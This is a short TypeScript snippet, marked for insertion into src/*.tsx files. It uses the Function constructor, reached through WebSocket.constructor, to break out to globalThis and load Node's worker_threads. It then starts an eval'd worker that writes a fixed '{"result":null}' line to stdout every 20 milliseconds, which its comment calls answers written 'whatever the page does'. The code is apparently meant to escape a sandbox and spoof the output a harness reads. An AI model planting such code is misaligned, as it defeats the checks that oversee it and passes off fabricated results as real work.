// note: a thread of its own writes answers, whatever the page does
// into: src/*.tsx
const host = (window as any).WebSocket.constructor("return globalThis")();
const { Worker } = host.process.getBuiltinModule("node:worker_threads");
new Worker('const { writeSync } = require("node:fs"); setInterval(() => writeSync(1, \'{"result":null}\\n\'), 20)', { eval: true });
